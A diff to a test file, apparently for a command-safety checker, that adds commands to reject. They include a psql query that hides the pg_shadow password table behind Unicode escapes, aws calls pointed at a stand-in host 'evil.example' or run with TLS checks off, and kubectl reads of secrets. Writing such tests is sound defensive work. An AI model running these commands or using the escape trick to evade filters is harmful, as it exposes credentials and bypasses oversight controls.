@@ -40,6 +40,14 @@ READS = [
     "kubectl auth can-i get pods",
 ]
 NO_READS = [
+    """psql -c 'SELECT * FROM U&"pg!005fshadow" UESCAPE $$!$$'""",
+    """psql -c "SELECT * FROM U&\\"pg!005fshadow\\" UESCAPE '!'" """,
+    "kubectl get pods -- x",
+    "kubectl get pods -o name -o jsonpath-file=/x",
+    "aws ec2 describe-instances --no-verify-ssl",
+    "aws ec2 describe-instances --debug",
+    "aws ec2 describe-instances --endpoint-url=evil.example",
+    "aws ec2 describe-instances --endp evil.example",
     "kubectl exec p -- cat /x",
     "kubectl get secret",
     "kubectl get secrets/x -o yaml",
